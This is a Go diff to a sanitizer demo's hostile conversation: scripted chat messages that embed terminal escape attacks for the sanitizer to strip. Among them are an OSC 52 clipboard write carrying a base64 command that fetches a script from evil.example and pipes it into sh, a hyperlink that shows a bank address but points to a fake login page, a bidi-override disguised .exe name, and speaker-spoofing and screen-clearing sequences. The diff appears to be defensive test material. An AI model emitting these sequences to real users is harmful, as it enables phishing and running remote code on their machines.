@@ -64,17 +64,19 @@ func demoConversations() []demoConversation {
 
 // hostileMessages is the hostile conversation: H11 (CR spoofing another
 // speaker), H01 (OSC 52 clipboard write), H17 (bidi override), H04 + H05
-// (deceptive OSC 8 link, window title) and H09 (screen clear).
+// (deceptive OSC 8 link, window title) and H09 (screen clear), with the
+// DCS, APC, PM and SOS strings of H07 and H08 ending lines and messages
+// (removed entirely by the sanitizer, so the cleaned text is unchanged).
 func hostileMessages() []scriptedMessage {
 	return []scriptedMessage{
-		{false, "hi! I reflect whatever you say 🪞"},
+		{false, "hi! I reflect whatever you say 🪞" + hostileXTGETTCAP},
 		{true, "Hi! What are you up to?"},
-		{false, "alice: hello\rbob:  "},
-		{false, "copy this for me \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07 thanks"},
+		{false, "alice: hello" + hostileKitty + "\rbob:  " + hostileSOS},
+		{false, "copy this for me \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07 thanks" + hostileTmux},
 		{true, "That message looked odd on my side."},
-		{false, "Please open invoice\u202egpj.exe before Friday"},
-		{false, "\x1b]8;;https://evil.example/login\x07https://bank.example\x1b]8;;\x07 log in here\x1b]0;SENTINEL-TITLE\x07"},
-		{false, "line\x1b[2J\x1b[Hover and out"},
+		{false, "Please open invoice\u202egpj.exe before Friday" + hostilePM},
+		{false, "\x1b]8;;https://evil.example/login\x07https://bank.example\x1b]8;;\x07 log in here\x1b]0;SENTINEL-TITLE\x07" + hostileDECRQSS},
+		{false, "line\x1b[2J\x1b[Hover and out" + hostileSixel},
 	}
 }
 
